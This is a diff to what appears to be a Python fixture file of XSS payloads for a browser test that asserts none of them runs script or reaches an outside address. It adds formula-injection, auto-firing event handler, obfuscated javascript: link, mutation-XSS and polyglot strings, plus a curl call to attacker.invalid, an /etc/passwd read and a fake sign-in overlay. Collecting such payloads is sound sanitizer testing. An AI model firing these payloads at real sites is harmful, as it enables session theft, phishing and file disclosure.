@@ -4,6 +4,8 @@ Each payload, where it runs, sets `window.__pwned`, or asks for an address below
 host by another scheme). A browser test puts each of them in each field and asserts that neither happens.
 """
 
+# ruff: noqa: E501 - a payload stands whole on its line
+
 from __future__ import annotations
 
 from typing import NamedTuple
@@ -251,8 +253,131 @@ UNICODE = {
     "long-s": f"<\u017fcript>{RUN}</\u017fcript>",
 }
 
+FORMULAS = {
+    "formula-script": rf"$\text{{<script>{RUN}</script>}}$",
+    "formula-script-entity": rf"$\text{{&lt;script&gt;{RUN}&lt;/script&gt;}}$",
+    "formula-script-numeric": rf"$\mbox{{&#60;img src=x onerror={RUN}&#62;}}$",
+    "formula-breakout": f"$x</math><img src=x onerror={RUN}>$",
+    "formula-attribute": f'$" onmouseover="{RUN}" x="$',
+    "formula-attribute-single": f"$' onfocus='{RUN}' autofocus x='$",
+    "formula-href": rf"$\href{{javascript:{RUN}}}{{click}}$",
+    "formula-href-data": r"$$\href{data:text/html,<script>opener.__pwned=1</script>}{click}$$",
+    "formula-href-remote": rf"\(\href{{{EVIL}/}}{{click}}\)",
+    "formula-style": rf"$\style{{position:fixed;inset:0;background:url({EVIL}/b)}}{{x}}$",
+    "formula-class": r"$\class{button button-primary}{x}$",
+    "formula-id": r"$\cssId{main}{x}$",
+    "formula-colour": rf"$\textcolor{{red' onload='{RUN}}}{{x}}$",
+    "formula-colour-url": rf"$\colorbox{{url({EVIL}/c)}}{{x}}$",
+    "formula-image": rf"$\includegraphics{{{EVIL}/i.png}}$",
+    "formula-input": r"$\input{/etc/passwd}\include{/etc/passwd}$",
+    "formula-write": r"$\immediate\write18{curl http://attacker.invalid}$",
+    "formula-unicode": rf"$\unicode{{x3c}}script\unicode{{x3e}}{RUN}$",
+    "formula-verb": rf"$\verb|<svg onload={RUN}>|$",
+    "formula-operator": rf"$\operatorname{{<svg/onload={RUN}>}}$",
+    "formula-tag": rf"$$x \tag{{<script>{RUN}</script>}}$$",
+    "formula-html-data": rf"$\htmlData{{x=y' onclick='{RUN}}}{{x}}$",
+    "formula-annotation": f'$<annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml>$',
+    "formula-mglyph": f"$<mglyph src={EVIL}/g.png>$",
+    "formula-maction": rf"$\mathtip{{x}}{{<img src=x onerror={RUN}>}}$",
+    "formula-environment": rf"\begin{{align}}<script>{RUN}</script>\end{{align}}",
+    "formula-environment-name": rf"$\begin{{<script>}}{RUN}\end{{<script>}}$",
+    "formula-display-brackets": f"\\[\n<script>{RUN}</script> = 1\n\\]",
+    "formula-definition": rf"$\def\x{{<script>{RUN}</script>}}\x$",
+    "formula-laughs": r"$\def\a{xxxx}\def\b{\a\a\a}\def\c{\b\b\b}\c$",
+    "formula-space": r"$\hspace{-999em}\raise999em{Sign in again: attacker.invalid}$",
+    "formula-in-link": rf"[$\text{{<img src=x onerror={RUN}>}}$](javascript:{RUN})",
+    "formula-in-table": f"a|b\n-|-\n$<script>{RUN}</script>$|x",
+    "formula-unclosed": f"$$<script>{RUN}</script>",
+    "formula-dollars-split": f"$x$<script>{RUN}</script>$y$",
+}
+
+# Each handler that browsers fire without a gesture, on an element that fires it.
+FIRING = {
+    **{f"fires-{event}": f"<{tag} {event}={RUN}>" for tag, event in (
+        ("audio src=x", "onerror"), ("audio src=x", "onloadstart"), ("body", "onafterprint"),
+        ("body", "onbeforeprint"), ("body", "onbeforeunload"), ("body", "onhashchange"), ("body", "onmessage"),
+        ("body", "onoffline"), ("body", "ononline"), ("body", "onpagehide"), ("body", "onpageshow"),
+        ("body", "onpopstate"), ("body", "onresize"), ("body", "onscroll"), ("body", "onstorage"),
+        ("body", "onunhandledrejection"), ("body", "onunload"), ("button autofocus", "onfocus"),
+        ("button autofocus", "onfocusin"), ("dialog open", "onclose"), ("embed src=x", "onload"),
+        ("form", "onreset"), ("iframe src=x", "onload"), ("image src=x", "onerror"),
+        ("img src=/static/favicon.svg", "onload"), ("img src=x", "onloadend"), ("input autofocus", "onblur"),
+        ("input type=image src=x", "onerror"), ("keygen autofocus", "onfocus"), ("link rel=stylesheet href=x", "onerror"),
+        ("marquee loop=1 width=0", "onfinish"), ("marquee", "onbounce"), ("object data=x", "onerror"),
+        ("script src=x", "onerror"), ("style", "onload"), ("svg", "onfocusin"), ("svg", "onunload"),
+        ("textarea autofocus", "onselect"), ("track src=x", "oncuechange"), ("video src=x", "onloadeddata"),
+        ("video src=x", "onsuspend"), ("xss style=transition:1s", "ontransitionend"),
+        ("xss style=transition:1s", "ontransitionrun"), ("xss", "onwebkitanimationstart"),
+        ("xss contenteditable autofocus", "oninput"), ("xss draggable=true", "ondragstart"),
+        ("xss tabindex=1", "onactivate"), ("xss", "onscrollend"), ("xss", "onscrollsnapchange"), ("xss", "onbeforematch"),
+    )},
+    **{f"link-{name}": _link(address) for name, address in {
+        "javascript-newline": f"java\nscript:{RUN}", "javascript-cr-entity": f"java&#13;script:{RUN}",
+        "javascript-padded-entity": f"&#0000106avascript:{RUN}", "javascript-no-semicolon": f"&#106avascript:{RUN}",
+        "javascript-upper-hex": f"&#X6A;avascript:{RUN}", "javascript-void": f"javascript:void({RUN})",
+        "javascript-unicode-escape": "javascript:window['\\u005f_pwned']=1", "javascript-double": f"javascript:javascript:{RUN}",
+        "javascript-userinfo": f"javascript://%0d%0a{RUN}@a.example", "javascript-soft-hyphen": f"java\u00adscript:{RUN}",
+        "javascript-fullwidth-colon": f"javascript：{RUN}", "javascript-ideographic-space": f"\u3000javascript:{RUN}",
+        "javascript-escape": f"\x1bjavascript:{RUN}", "javascript-fraction": f"javascript:{RUN}//https://a.example",
+        "http-backslash": "http:\\\\attacker.invalid", "http-no-host": "http:///attacker.invalid",
+        "http-userinfo": "http://accord@attacker.invalid/", "ftp": "ftp://attacker.invalid/x",
+        "ws": "ws://attacker.invalid/", "about": "about:blank", "chrome": "chrome://settings", "jar": "jar:http://attacker.invalid!/x",
+        "mhtml": "mhtml:http://attacker.invalid/x", "tel": "tel:+15551234", "sms": "sms:+15551234", "steam": "steam://run/1",
+        "ms-office": "ms-word:ofe|u|http://attacker.invalid/x.docm", "search-ms": "search-ms:query=x&crumb=location:attacker.invalid",
+        "empty": "", "query": "?next=//attacker.invalid", "dot": "./sign-out", "data-utf7": "data:text/html;charset=utf-7,+ADw-script+AD4-",
+        "data-javascript": f"data:application/javascript,{RUN}", "data-xml": f"data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
+    }.items()},
+}  # fmt: skip
+
+MUTATIONS = {
+    "mutation-math-style": f"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src=x onerror='{RUN}'>\">",
+    "mutation-svg-title": f'<svg><title><style><!--</style><img title="--><img src=x onerror={RUN}>"></title></svg>',
+    "mutation-malignmark": f"<math><mtext><mglyph><malignmark><style><img src=x onerror={RUN}></style>",
+    "mutation-annotation": f'<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror={RUN}></style>',
+    "mutation-noscript": f"<div><noscript><style></noscript><img src=x onerror={RUN}></style></div>",
+    "mutation-noembed": f'<noembed><img title="</noembed><img src=x onerror={RUN}>"></noembed>',
+    "mutation-noframes": f'<noframes><img title="</noframes><img src=x onerror={RUN}>"></noframes>',
+    "mutation-iframe-text": f'<iframe><img title="</iframe><img src=x onerror={RUN}>"></iframe>',
+    "mutation-xmp-svg": f'<svg><xmp><img title="</xmp><img src=x onerror={RUN}>"></xmp></svg>',
+    "mutation-table": f"<table><math><mtext><table><mglyph><style><math><img src=x onerror={RUN}></style>",
+    "mutation-p-in-svg": f"<svg><p><style><img src=x onerror={RUN}></style></p></svg>",
+    "mutation-backtick": f"<img alt=`` ><img src=x onerror={RUN}>``",
+    "mutation-template": f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
+    "mutation-nested-forms": f"<form><div></form><form><table></form><form></table></form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
+    "mutation-cdata": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
+    "mutation-processing": f"<?x ><img src=x onerror={RUN}> ?>",
+    "mutation-end-comment": f"--><img src=x onerror={RUN}><!--",
+    "mutation-conditional": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
+    "mutation-select-keygen": f"<select><keygen><img src=x onerror={RUN}></select>",
+    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=window.__pwned=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__pwned=1//>\\x3e",
+    "polyglot-markdown": f"[![`<script>{RUN}</script>`](javascript:{RUN})](<javascript:{RUN}> '\" onclick={RUN}')",
+    "marked-link": f'**[a](<http://a.example/"onclick="{RUN}>)**',
+    "autolink-quote": f'<http://a.example/"onmouseover="{RUN}>',
+    "autolink-mail": f'<"onclick={RUN}"@a.example>',
+    "reference-script": f"[<script>{RUN}</script>]: http://a.example\n\n[<script>{RUN}</script>]",
+    "table-alignment": f'a|b\n:-"onclick={RUN}|-\n1|2',
+    "list-number": f'1"onclick="{RUN}. x\n2. y',
+    "heading-attributes": f'# x {{onclick="{RUN}" #main .button}}',
+    "link-attributes": f'[x](http://a.example){{onclick="{RUN}"}}',
+    "html-block": f"<details open ontoggle={RUN}>\n\n**x**\n\n</details>",
+    "html-in-list": f"- a\n  <img src=x onerror={RUN}>\n- b",
+}
+
 PAYLOADS = tuple(
     Payload(name, text)
-    for family in (SCRIPTS, HANDLERS, SCHEMES, MARKUP, IMAGES, FENCES, ATTRIBUTES, TEMPLATES, UNICODE)
+    for family in (
+        FORMULAS,
+        SCRIPTS,
+        HANDLERS,
+        SCHEMES,
+        MARKUP,
+        IMAGES,
+        FENCES,
+        ATTRIBUTES,
+        TEMPLATES,
+        UNICODE,
+        MUTATIONS,
+        FIRING,
+    )
     for name, text in family.items()
 )
